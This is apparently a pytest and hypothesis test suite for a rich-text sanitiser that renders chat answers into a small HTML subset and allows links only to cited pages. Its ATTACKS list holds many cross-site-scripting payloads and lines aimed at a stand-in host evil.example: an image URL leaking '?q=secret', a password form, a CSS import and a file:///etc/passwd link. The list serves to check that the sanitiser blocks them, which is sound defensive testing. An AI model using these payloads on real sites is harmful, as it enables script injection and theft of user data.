from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html

from server.visitor.rich_text import MAX_CHARS, plain_text, rich_html

CITED = "https://u.example/fees?year=2026&term=fall"
MARK = '<a class="reference" href="#source-1">1</a>'
TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "a"}
# Ways to have a page run a script, load a file, or look like another, each with what must not come of it.
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='https://u.example/fees' onclick='alert(1)'>fees</a>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<form action='http://evil.example'><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<sup data-n='1'></sup>",
    '<sup data-n="1"></sup>',
    "<p><strong>bold</strong>",
    "![a](http://evil.example/i.png?q=secret)",
    "![a][1]\n\n[1]: http://evil.example/i.png",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/admin/tokens)",
    "[a](https://evil.example)",
    "[a](https://u.example@evil.example/fees)",
    "[a](https://u.example/fees?year=2026&term=fall.evil.example)",
    "[a](https://u.example/fees%3Fyear=2026&term=fall)",
    '[a](https://evil.example "title\' onmouseover=alert(1) x=")',
    '[a](https://u.example/fees"onmouseover=alert(1))',
    "[1](https://evil.example)",
    "[[1]](https://evil.example)",
    "[a [1] b](https://evil.example)",
    "[a](https://evil.example)[b](https://evil.example)",
    "[**a** [b](https://evil.example/b) c](https://evil.example/c)",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "[a]: https://evil.example\n\n[a]",
    "https://evil.example",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# heading\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "> quoted\n\n---\n\n***",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</script>",
    "*" * 500 + "a",
    "[" * 500,
    "[a](" * 200,
    "- " * 200 + "a",
    "1. " * 100,
]  # fmt: skip


def shown(text: str, allowed: tuple[str, ...] | None = (CITED,)) -> str:
    return str(rich_html(text, allowed, {1: MARK}))


def assert_safe(markup: str, *, anywhere: bool = False) -> None:
    """Only our few tags and attributes; links lead to the cited page, or `anywhere` that may be linked."""
    for tag in html.fragment_fromstring(markup, create_parent="div").iterdescendants():
        if tag.get("class") == "reference":
            assert dict(tag.attrib) == {"class": "reference", "href": "#source-1"}
            continue
        assert tag.tag in TAGS
        assert set(tag.attrib) <= {"a": {"href", "target", "rel"}, "ol": {"start"}}.get(str(tag.tag), set())
        if tag.tag == "a":
            href = str(tag.get("href"))
            assert tag.get("rel") == "nofollow noopener noreferrer"
            assert href.lower().startswith(("http:", "https:")) if anywhere else href == CITED


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("One line.", "<p>One line.</p>"),
        ("One line.\nAnother.", "<p>One line.<br>\nAnother.</p>"),
        ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>"),
        ("You need:\n- a form\n- a fee", "<p>You need:</p>\n<ul>\n<li>a form</li>\n<li>a fee</li>\n</ul>"),
        ("3. third\n4. fourth", '<ol start="3">\n<li>third</li>\n<li>fourth</li>\n</ol>'),
        ("GPA < 2.0 & rising", "<p>GPA &lt; 2.0 &amp; rising</p>"),
        ("file_name_here costs 2*3*4", "<p>file_name_here costs 2<em>3</em>4</p>"),
        ("# no heading, `no code`", "<p># no heading, `no code`</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_the_subset(text: str, expected: str) -> None:
    assert shown(text) == expected


def test_a_reference_is_the_pages_own_link_wherever_it_stands() -> None:
    assert shown("It is $90. [1]") == f"<p>It is $90.{MARK}</p>"
    assert shown("**It is $90 [1]**\n- a [1]") == (
        f"<p><strong>It is $90{MARK}</strong></p>\n<ul>\n<li>a{MARK}</li>\n</ul>"
    )


def test_a_number_without_a_source_stays_text() -> None:
    assert shown("Room [7], or [12].") == "<p>Room [7], or [12].</p>"


def test_only_links_to_the_cited_pages_are_links() -> None:
    link = f'<a href="{CITED.replace("&", "&amp;")}" target="_blank" rel="nofollow noopener noreferrer">'
    assert shown(f"See [the **fees**]({CITED}).") == f"<p>See {link}the <strong>fees</strong></a>.</p>"
    assert shown(f"See [the fees]({CITED}#part).") == f"<p>See {link}the fees</a>.</p>"
    assert shown("See [the *fees*](https://evil.example).") == "<p>See the <em>fees</em>.</p>"
    assert shown("[1](https://evil.example)") == "<p>1</p>"


@pytest.mark.parametrize("url", ["https://a.example/x?y=1", "mailto:help@u.example", "tel:+18025550120"])
def test_an_editors_own_links_are_links(url: str) -> None:
    assert f'<a href="{url}"' in shown(f"[Write to us]({url})", None)


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "ftp://a.example", "/admin", "a.b"]
)
def test_an_editor_cannot_link_to_just_anything(url: str) -> None:
    assert shown(f"[words]({url})", None) == "<p>words</p>"
    assert shown(f"[words]({url})", (url,)) == "<p>words</p>"


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str) -> None:
    for text in (attack, f"Fees [1]: {attack}", f"- **{attack}**\n\n{attack}"):
        assert_safe(shown(text))
        assert_safe(shown(text, None), anywhere=True)
        assert "http://evil" not in str(html.fragment_fromstring(shown(text), "div").xpath("//@*"))


PIECES = st.sampled_from(
    [
        *ATTACKS,
        "[1]",
        "[2]",
        "**",
        "*",
        "_",
        "\n",
        "\n\n",
        "- ",
        "1. ",
        "\\",
        "](",
        CITED,
        ")",
        "[x](",
        "<",
        ">",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES | st.text(max_size=12), max_size=12).map("".join))
@example("[a](https://evil.example)" * 3)
def test_whatever_is_written_only_the_subset_comes_out(text: str) -> None:
    assert_safe(shown(text))
    assert_safe(shown(text, None), anywhere=True)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.from_regex(r"[A-Za-z ,.$0-9]{1,30}", fullmatch=True), min_size=1, max_size=5))
def test_lines_are_lines(lines: list[str]) -> None:
    """Plain lines come out as they are, one below the other."""
    lines = [f"x{line}x" for line in lines]
    assert shown("\n".join(lines)) == "<p>" + "<br>\n".join(lines) + "</p>"


def test_a_text_beyond_all_measure_is_shown_as_it_is() -> None:
    text = "**a** <b> " * MAX_CHARS
    assert shown(text) == f"<p>{text.replace('<', '&lt;').replace('>', '&gt;')}</p>"


def test_what_is_read_aloud_has_no_marks() -> None:
    text = f"**It is** $90 & up. [1]\n- a [form]({CITED}) [2]\n- 2 < 3"
    assert plain_text(text, (1, 2)) == "It is $90 & up.\na form\n2 < 3"


def test_the_addresses_of_several_pages_do_not_mix() -> None:
    urls = [f"https://u.example/{name}" for name in ("a", "b", "c")]
    for one, other in pairwise(urls):
        assert f'href="{one}"' in shown(f"[x]({one})", (one,))
        assert "href" not in shown(f"[x]({other})", (one,))
